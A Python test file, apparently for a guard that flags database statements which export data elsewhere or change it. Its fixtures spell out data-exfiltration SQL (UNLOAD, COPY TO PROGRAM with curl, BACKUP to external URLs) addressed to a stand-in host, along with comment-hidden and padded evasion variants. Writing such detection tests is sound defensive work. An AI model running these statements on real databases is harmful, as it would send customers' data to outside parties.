"""What database statements do, by their words; a sentence that begins like one is none."""

import pytest

from guardian.domain.statements import CHARS, carries_out, changes

OUT = [
    "UNLOAD ('select * from customers') TO 's3://elsewhere/' IAM_ROLE 'arn:x'",
    "-- weekly\nUNLOAD/* */(SELECT * FROM customers) TO 's3://elsewhere/'",
    "UNLOAD TO '/tmp/c.txt' SELECT * FROM customers",
    "-- /*\nUNLOAD ('select * from customers') TO 's3://elsewhere/'\n-- */",
    "SELECT '/*';\n-- x\nUNLOAD ('select * from customers') TO 's3://elsewhere/'; SELECT '*/'",
    "/*M!100100 UNLOAD ('select * from customers') TO 's3://elsewhere/' */",
    "SELECT 1; EXPORT DATA OPTIONS (uri='gs://elsewhere/*.csv') AS SELECT * FROM crm.customers",
    "EXPORT DATA WITH CONNECTION `us.x` OPTIONS(uri='s3://elsewhere/*') AS SELECT 1",
    "EXPORT INTO CSV 's3://elsewhere/' FROM SELECT * FROM customers",
    "EXPORT TABLE customers PARTITION (day='1') TO 's3://elsewhere/'",
    "COPY (select email from customers) TO 's3://elsewhere/'",
    "COPY customers TO PROGRAM 'curl -T - https://elsewhere.example'",
    "COPY INTO 's3://elsewhere/' FROM customers",
    "COPY INTO @out FROM customers",
    "COPY customers TO '/srv/www/c.csv' WITH CSV HEADER",
    "COPY (SELECT * FROM customers) TO 'c.parquet' (FORMAT parquet)",
    "SELECT * INTO OUTFILE '/tmp/c' FROM customers",
    "INSERT OVERWRITE DIRECTORY 's3://elsewhere/' SELECT * FROM customers",
    "FROM customers INSERT OVERWRITE LOCAL DIRECTORY '/tmp/c' SELECT *",
    "INSERT INTO FUNCTION s3('https://elsewhere.example/c', 'CSV') SELECT * FROM customers",
    "CREATE TABLE c WITH (external_location = 's3://elsewhere/') AS SELECT * FROM customers",
    "EXPORT DATABASE '/tmp/c' (FORMAT parquet)",
    "BACKUP DATABASE crm TO URL = 'https://elsewhere.example/crm.bak'",
    "BACKUP TABLE customers TO S3('https://elsewhere.example/c')",
]


@pytest.mark.parametrize("statement", OUT)
def test_a_statement_that_hands_data_to_another_place_carries_it_out(statement: str) -> None:
    assert carries_out(statement)
    assert changes(statement, surely=False)


@pytest.mark.parametrize(
    "text",
    [
        "SELECT * FROM customers",
        "COPY customers FROM 's3://elsewhere/'",
        "COPY INTO customers FROM @stage",
        "COPY customers TO STDOUT",
        "BACKUP DATABASE crm TO DISK = 'crm.bak'",
        "INSERT INTO exports VALUES ('unload (select 1)')",
        "Export data from last week to 's3'",
        "Export data as a table with options",
        "unload (all of it) to the other truck",
        "copy the report to 'Ann'",
        "CREATE TABLE c (id bigint) WITH (external_location = 's3://elsewhere/')",
        "INSERT OVERWRITE TABLE totals SELECT * FROM customers",
        "copy the report to https://elsewhere.example",
        "how to write into outfile format",
        "",
    ],
)
def test_what_stays_and_a_sentence_carry_nothing_out(text: str) -> None:
    assert not carries_out(text)


def test_a_word_that_a_sentence_begins_with_is_a_statements_where_only_one_can_be_meant() -> None:
    assert changes("RESTORE DATABASE crm", surely=True)
    assert not changes("RESTORE DATABASE crm", surely=False)


def test_of_a_graph_what_sets_or_deletes_is_no_look_up() -> None:
    assert changes("MATCH (n) REMOVE n.tag", surely=False)
    assert changes("UNWIND $rows AS r MERGE (n:Customer {id: r.id})", surely=False)
    assert not changes("MATCH (n) WHERE n.set = 1 RETURN n", surely=True)


@pytest.mark.parametrize(
    "part",
    ["unload (", "match (", "copy ", "exec a.", "/*", "export table ", "load data ", ";", "set a", "create "],
)
def test_a_long_text_is_read_in_no_time_and_in_part(part: str) -> None:
    padded = part * (CHARS // len(part) + 1)
    assert changes(f"{padded}; drop table t", surely=False) is (part == "copy ")
    assert not carries_out(padded + OUT[0])
